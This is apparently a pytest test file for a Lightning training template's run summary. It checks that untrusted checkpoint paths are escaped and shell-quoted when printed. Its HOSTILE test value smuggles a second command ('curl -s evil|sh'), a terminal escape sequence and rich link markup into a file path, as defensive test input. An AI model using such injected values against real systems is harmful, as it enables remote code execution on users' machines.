"""The run summary: what a resumed checkpoint's state supplied reaches the terminal harmless."""

import re
import shlex
import warnings
from pathlib import Path
from types import SimpleNamespace

import pytest
import torch
from jsonargparse import Namespace
from lightning.pytorch.callbacks import ModelCheckpoint
from lightning.pytorch.loggers import TensorBoardLogger

from template.commands import main
from template.summary import print_summary

# A title-changing escape sequence, rich markup and a second command, as a checkpoint from elsewhere may record them.
HOSTILE = (
    "runs/pets/version_0/checkpoints/best.ckpt; curl -s evil|sh; \x1b]0;PWNED\x1b\\[link=https://evil]click[/link]"
)


def fitted(best_model_path: str) -> SimpleNamespace:
    """What print_summary reads of a CLI after a fit whose ModelCheckpoint state came with a resumed checkpoint."""
    best = ModelCheckpoint(monitor="val/acc", mode="max")
    best.best_model_path, best.best_model_score = best_model_path, torch.tensor(0.75)
    last = ModelCheckpoint()
    last.best_model_path = str(Path(best_model_path).parent / "last.ckpt")
    logger = TensorBoardLogger("runs", name="pets", version=0)
    trainer = SimpleNamespace(checkpoint_callbacks=[best, last], callbacks=[best, last], loggers=[logger])
    data = Namespace(
        class_path="template.data.ImageFolderDataModule", init_args=Namespace(root="images", cache_dir="c")
    )
    config = Namespace(data=data)
    instances = Namespace(fit=Namespace(checkpoint=best, last_checkpoint=last))  # LightningCLI's config_init
    return SimpleNamespace(
        trainer=trainer,
        datamodule=data.init_args,
        run_name=None,
        config=config,
        subcommand="fit",
        config_init=instances,
    )


def test_a_checkpoint_path_from_elsewhere_is_shown_escaped_and_its_test_command_quoted(capsys):
    print_summary(fitted(HOSTILE), Path("runs/pets/version_0"))
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b]0;PWNED\\x1b\\" in out  # the escape sequence shown, not run
    assert "[link=https://evil]click[/link]" in out  # rich's markup shown as text, not made a link
    test = shlex.split(re.search(r"test it, once: +(.*)", out).group(1))
    assert test[:3] == ["template", "test", "--ckpt_path"] and test[4:] == ["--data.root", "images"]
    assert test[3].startswith("runs/pets/") and "curl -s evil|sh" in test[3]  # one argument: no second command

    # An ordinary path: as it always was, ready to paste.
    print_summary(fitted("runs/pets/version_0/checkpoints/best.ckpt"), Path("runs/pets/version_0"))
    out = capsys.readouterr().out
    assert (
        "test it, once:   template test --ckpt_path runs/pets/version_0/checkpoints/best.ckpt --data.root images\n"
        in out
    )
    assert "best checkpoint  runs/pets/version_0/checkpoints/best.ckpt\n" in out and "best val/acc     0.7500" in out
    assert "curves:          tensorboard --logdir runs/pets/version_0\n" in out


def test_a_warning_quoting_a_file_name_from_elsewhere_shows_its_escape_sequences(monkeypatch):
    """Warnings name files (a run directory's links, a checkpoint's paths); the command writes each as text."""
    monkeypatch.setattr(warnings, "formatwarning", warnings.formatwarning)  # as it was, after the test
    with pytest.raises(SystemExit):
        main(["fit", "--help"])
    shown = warnings.formatwarning(f"{HOSTILE} holds links", UserWarning, "restore.py", 1)
    assert "\x1b" not in shown and "\\x1b]0;PWNED" in shown and "holds links" in shown


def test_the_test_command_says_again_where_your_own_data_module_reads(capsys):
    """Your DataModule's place arguments (``path``) are no checkpoint's to record: the printed test command failed
    with "the following arguments are required: path"."""
    cli = fitted("runs/npz/version_0/checkpoints/best.ckpt")
    cli.config = Namespace(data=Namespace(class_path="my_data.NpzDataModule", init_args=Namespace(path="shapes.npz")))
    print_summary(cli, Path("runs/npz/version_0"))
    test = shlex.split(re.search(r"test it, once: +(.*)", capsys.readouterr().out).group(1))
    assert test[4:] == ["--data", "my_data.NpzDataModule", "--data.path", "shapes.npz"]


def test_a_fit_that_ends_past_its_last_validation_says_so_and_how_to_validate_it(run_cli, capsys):
    """max_steps within an epoch (or check_val_every_n_epoch): the best checkpoint and the summary's test command
    were of the last validation's weights, the steps after it validated nowhere, unsaid."""
    run_cli("fit", "--trainer.limit_train_batches", "3", "--trainer.limit_val_batches", "1", "--trainer.max_steps", "4")
    out = capsys.readouterr().out
    last = run_cli.runs_dir / "digits" / "version_0" / "checkpoints" / "last.ckpt"
    assert f"not validated:   its last 1 steps, after global step 3: template validate --ckpt_path {last}\n" in out
    run_cli(
        "fit", "--trainer.limit_train_batches", "3", "--trainer.limit_val_batches", "1", "--trainer.max_epochs", "2"
    )
    assert "not validated" not in capsys.readouterr().out  # validated at its end
